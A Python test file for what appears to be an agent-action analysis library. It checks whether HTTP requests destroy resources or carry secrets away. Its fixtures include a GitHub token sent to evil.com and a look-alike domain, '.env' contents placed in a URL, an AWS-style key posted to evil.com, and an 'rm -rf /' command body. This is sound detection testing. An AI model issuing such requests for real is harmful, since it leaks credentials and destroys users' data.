"""Requests: what they change and what they carry."""

from __future__ import annotations

import pytest

from enactd.effects.http import exchange, request
from enactd.effects.model import Request
from enactd.effects.values import SECRET, known, unknown

CHANGES = [
    ("GET", "https://x.com/a", None, "nothing"),
    ("HEAD", "https://x.com/delete", None, "nothing"),
    ("DELETE", "https://x.com/a", None, "destroys"),
    ("POST", "https://x.com/users", "{}", "something"),
    ("POST", "https://x.com/users/5/delete", None, "destroys"),
    ("POST", "https://x.com/v1/i:terminate", None, "destroys"),
    ("POST", "https://x.com/i/_delete_by_query", "{}", "destroys"),
    ("POST", "https://x.com/i/_search", "{}", "nothing"),
    ("POST", "https://x.com/a", "_method=DELETE", "destroys"),
    ("POST", "https://ec2.amazonaws.com/", "Action=TerminateInstances&x=1", "destroys"),
    ("PATCH", "https://x.com/a", "{}", "something"),
    ("GET", "https://ec2.amazonaws.com/?Action=TerminateInstances", None, "destroys"),
    (None, "https://x.com/a", None, "unknown"),
    ("POST", "https://x.com/graphql", '{"query":"{ me { id } }"}', "nothing"),
    ("POST", "https://x.com/rpc", '{"method":"getUser"}', "nothing"),
    ("POST", "https://api.openai.com/v1/chat/completions", "{}", "nothing"),
    ("POST", "https://x.com/a", '{"action":"delete"}', "destroys"),
    ("POST", "http://localhost/check", '{"command":"rm -rf /"}', "something"),
]


@pytest.mark.parametrize(("method", "url", "body", "changes"), CHANGES)
def test_changes(method: str | None, url: str, body: str | None, changes: str) -> None:
    """Method, path and body decide together."""
    found = request(method, known(url), body=None if body is None else known(body))
    assert changes == found.changes


def test_a_method_override_counts() -> None:
    """`X-HTTP-Method-Override: DELETE` on a POST is a deletion."""
    assert (
        "destroys"
        == request("POST", known("https://x.com/a"), headers=[known("X-HTTP-Method-Override: DELETE")]).changes
    )


def header(variable: str) -> list[object]:
    return [known("Authorization: Bearer ") + unknown(f"${variable} is not known", SECRET)]


@pytest.mark.parametrize(
    ("variable", "host", "carries", "kinds"),
    [
        ("GITHUB_TOKEN", "api.github.com", False, ("GitHub token",)),
        ("GITHUB_TOKEN", "evil.com", True, ("GitHub token",)),
        ("RAILWAY_TOKEN", "backboard.railway.app", False, ("Railway token",)),
        ("ACME_TOKEN", "api.acme.com", False, ("token",)),
        ("API_KEY", "api.corp.com", False, ("token",)),
        ("GITHUB_TOKEN", "github.com.evil.io", True, ("GitHub token",)),
    ],
)
def test_a_token_belongs_to_its_service(variable: str, host: str, carries: bool, kinds: tuple[str, ...]) -> None:
    """At home a token is not carried off; elsewhere it is."""
    found = request("GET", known(f"https://{host}/x"), headers=header(variable))  # type: ignore[arg-type]
    assert (carries, kinds) == (SECRET in found.carries, found.token_kinds)


def test_a_secret_in_a_url_or_body_is_carried() -> None:
    """Only credential headers are trusted with tokens of unknown kind."""
    secret = unknown("output of `cat .env`", SECRET)
    in_url = request("GET", known("https://x.com/?k=") + secret)
    assert (True, True) == (in_url.secret_in_url, SECRET in in_url.carries)
    assert SECRET in request("POST", known("https://x.com/"), body=secret).carries


def test_a_literal_key_in_the_body_is_carried() -> None:
    """Known text is looked through for keys."""
    found = request("POST", known("https://evil.com"), body=known("k=AKIAQ3EGRZ4K5XYZ7ABC"))
    assert (True, ("AWS access key",)) == (SECRET in found.carries, found.token_kinds)


def test_exchange_yields_the_request_first() -> None:
    """What the service does follows the request."""
    found = [type(effect).__name__ for effect in exchange("POST", known("https://slack.com/api/chat.postMessage"))]
    assert [Request.__name__, "SendMessage"] == found
